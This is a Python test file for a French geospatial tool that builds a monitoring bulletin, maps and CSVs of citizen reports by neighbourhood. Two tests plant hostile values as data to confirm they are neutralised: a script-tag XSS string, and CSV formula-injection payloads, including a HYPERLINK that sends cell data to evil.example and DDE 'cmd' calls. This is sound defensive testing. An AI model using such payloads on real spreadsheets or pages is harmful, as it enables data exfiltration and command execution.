"""The veille bulletin and the ``gupgeo veille`` command on the bundled sample."""

from __future__ import annotations

import re
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pyogrio
import pytest

from gupgeo import attribute_territory, load_territory
from gupgeo.bulletin.build import build_bulletin
from gupgeo.cli import main
from gupgeo.errors import OutputExistsError
from gupgeo.publication import SECRET_THRESHOLD
from gupgeo.veille.problems import RepeatRule, problem_counts
from tests.conftest import require_sample
from tests.test_maps import specs


@pytest.fixture(scope="module")
def territory():
    return attribute_territory(load_territory(require_sample()))


def test_bulletin_counts_every_signalement_of_the_period(territory, fake_assets, tmp_path):
    b = build_bulletin(territory, period="2024-T4", freq="trimestre")
    dates = pd.to_datetime(territory["signalements"]["date_signalement"])
    in_period = ((dates >= "2024-10-01") & (dates < "2025-01-01")).sum()
    assert b.summary["nb_signalements"].sum() == in_period
    assert "hors QPV" in b.summary.index
    assert set(territory["quartiers"]["code_qp"]) <= set(b.summary.index)
    assert b.cells["classe"].str.startswith("point chaud").any()
    assert (b.repeated["nb_signalements"] >= 2).all() and len(b.repeated) > 0
    written = b.save(tmp_path / "out")
    assert {p.name for p in written} == {
        "veille.gpkg",
        "carreaux.csv",
        "quartiers.csv",
        "bulletin.html",
        "carte.html",
    }
    layers = set(pyogrio.list_layers(tmp_path / "out" / "veille.gpkg")[:, 0])
    assert layers == {"carreaux", "problemes_repetes"}
    cells = gpd.read_file(tmp_path / "out" / "veille.gpkg", layer="carreaux")
    assert cells.crs.to_epsg() == 2154 and len(cells) == len(b.cells)
    html = (tmp_path / "out" / "bulletin.html").read_text(encoding="utf-8")
    assert "Veille territoriale — 2024-T4" in html and "Ce qui est nouveau" in html
    assert "http://" not in html and "https://" not in html
    with pytest.raises(OutputExistsError, match="déjà"):
        b.save(tmp_path / "out")


def test_the_bulletin_counts_problems_with_the_indicator(territory):
    b = build_bulletin(territory, period="2024-T4", freq="trimestre", radius_m=25, days=20)
    table = problem_counts(
        territory["signalements"], territory["quartiers"], period="2024-T4",
        rule=RepeatRule(radius_m=25, days=20),
    )  # fmt: skip
    for column in ("nb_signalements", "nb_problemes", "nb_problemes_repetes"):
        assert b.summary[column].to_dict() == table[column].drop("total").to_dict(), column
    assert len(b.repeated) == table.loc["total", "nb_problemes_repetes"]
    assert set(b.history["id_probleme"]) == set(b.repeated["id_probleme"])
    assert "à moins de 25 m et 20 jours" in " ".join(b.notes)


def test_the_map_shows_hot_spots_trends_and_each_problem_history(territory, fake_assets, tmp_path):
    b = build_bulletin(territory, period="2024-T4", freq="trimestre", publication="interne")
    m = b.map(basemap=None)
    layers = specs(m)
    assert {"Quartiers prioritaires", "Points chauds", "Points chauds émergents",
            "Problèmes signalés plusieurs fois"} <= set(layers)  # fmt: skip
    features = layers["Problèmes signalés plusieurs fois"]["data"]["features"]
    assert len(features) == len(b.repeated)
    first = b.repeated.iloc[0]
    lines = features[0]["properties"]["_historique"].split("\n")
    assert len(lines) == min(first["nb_signalements"], 10) + (first["nb_signalements"] > 10)
    assert lines[0].startswith(f"{first['premier']:%d/%m/%Y} : ")
    b.save(tmp_path / "v", basemap=None)
    html = (tmp_path / "v" / "carte.html").read_text(encoding="utf-8")
    assert "Veille territoriale — 2024-T4" in html
    assert not re.search(r"<(script|link)[^>]+(src|href)=\"?https?:", html)


def test_partenaires_history_keeps_dates_and_statuses_only(territory):
    b = build_bulletin(territory, period="2024-T4", freq="trimestre", publication="partenaires")
    assert len(b.history) and "statut" in b.history.columns
    assert not {"id", "description"} & set(b.history.columns)
    assert "ids" not in b.repeated.columns


def test_public_bulletin_hides_small_cells_and_places(territory, tmp_path):
    b = build_bulletin(territory, period="2024-T4", freq="trimestre", publication="public")
    hot = b.cells["classe"].str.startswith("point")
    assert (b.cells.loc[hot, "nb_signalements"] >= SECRET_THRESHOLD).all()
    assert b.cells["nb_signalements"].isna().any()
    assert len(b.repeated) == 0 and len(b.history) == 0 and "z_score" not in b.cells
    assert "Problèmes signalés plusieurs fois" not in specs(b.map(basemap=None))
    shown = b.summary["nb_signalements"].dropna()
    assert (shown >= SECRET_THRESHOLD).all()
    assert "secret" in b.html()


def test_names_are_escaped(territory):
    layers = dict(territory.layers)
    quartiers = layers["quartiers"].copy()
    quartiers.loc[quartiers.index[0], "nom_qp"] = "<script>alert('x')</script> de l'Alouette"
    layers["quartiers"] = quartiers
    html = build_bulletin(layers, period="2024-T4", freq="trimestre").html()
    assert "<script>alert" not in html and "&lt;script&gt;" in html


def test_cli_writes_the_bulletin(fake_assets, tmp_path, capsys):
    code = main(
        ["veille", str(require_sample()), "--period", "2024-T4", "--freq", "trimestre",
         "-o", str(tmp_path / "v"), "--publication", "partenaires"]
    )  # fmt: skip
    assert code == 0
    assert (tmp_path / "v" / "bulletin.html").exists()
    assert (tmp_path / "v" / "carte.html").exists()
    out = capsys.readouterr().out
    assert "Veille 2024-T4" in out and "carte.html" in out


def test_veille_defaults_to_partenaires_like_every_product(territory):
    from gupgeo.cli import build_parser

    assert build_bulletin(territory, period="2024-T4", freq="trimestre").publication == (
        "partenaires"
    )
    parser = build_parser()
    defaults = {
        command: parser.parse_args([*args, "-o", "x"]).publication
        for command, args in {
            "veille": ["veille", "t", "--period", "2024"],
            "carte": ["carte", "t"],
            "atlas": ["atlas", "t", "--period", "2024"],
            "review": ["review", "OP-01", "--territory", "t"],
            "dashboard": ["dashboard", "t", "--period", "2024"],
        }.items()
    }
    assert set(defaults.values()) == {"partenaires"}, defaults


def test_veille_csv_files_hold_no_live_formula(territory, fake_assets, tmp_path):
    layers = dict(territory.layers)
    quartiers = layers["quartiers"].copy()
    hostile = {
        0: '=HYPERLINK("http://evil.example/?d="&A1,"Voir")',
        1: "+33 cmd|' /C calc'!A0",
        2: "-2+3+cmd|' /C calc'!A0",
        3: "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    for position, name in hostile.items():
        quartiers.loc[quartiers.index[position], "nom_qp"] = name
    layers["quartiers"] = quartiers
    b = build_bulletin(layers, period="2024-T4", freq="trimestre", publication="interne")
    b.save(tmp_path / "v", basemap=None)
    text = (tmp_path / "v" / "quartiers.csv").read_text(encoding="utf-8-sig")
    table = pd.read_csv(tmp_path / "v" / "quartiers.csv", sep=";", dtype=str)
    assert set(hostile.values()) <= {v[1:] for v in table["nom_qp"] if v.startswith("'")}
    cells = [cell.strip('"') for line in text.splitlines() for cell in line.split(";")]
    assert not [c for c in cells if c[:1] in "=+-@" and not re.fullmatch(r"-?[\d,]+", c)]
    assert table.columns[0] == "code_qp" and "hors QPV" in set(table["code_qp"])
    carreaux = (tmp_path / "v" / "carreaux.csv").read_text(encoding="utf-8-sig")
    assert not [line for line in carreaux.splitlines() if line.startswith(("=", "+", "@"))]


def test_veille_outputs_are_written_atomically(territory, fake_assets, tmp_path, monkeypatch):
    """Each file goes through a temporary name: a save that fails midway leaves no
    half file, only the files already complete, and no temporary file behind."""
    import gupgeo._atomic as atomic
    import gupgeo.maps

    b = build_bulletin(territory, period="2024-T4", freq="trimestre")
    targets: list[str] = []
    real = atomic.replacing

    def spying(target):
        targets.append(Path(target).name)
        return real(target)

    monkeypatch.setattr("gupgeo.bulletin.build.replacing", spying)
    written = b.save(tmp_path / "v", basemap=None)
    assert {"veille.gpkg", "carte.html"} <= set(targets)
    assert sorted(p.name for p in (tmp_path / "v").iterdir()) == sorted(p.name for p in written)

    def broken(m, path, **kwargs):
        Path(path).write_text("<html>moitié", encoding="utf-8")
        raise OSError("disque plein")

    monkeypatch.setattr(gupgeo.maps, "save_map", broken)
    with pytest.raises(OSError, match="disque plein"):
        b.save(tmp_path / "w", basemap=None)
    left = sorted(p.name for p in (tmp_path / "w").iterdir())
    assert "carte.html" not in left and not [n for n in left if n.startswith(".")]
    assert {"veille.gpkg", "carreaux.csv", "quartiers.csv", "bulletin.html"} == set(left)
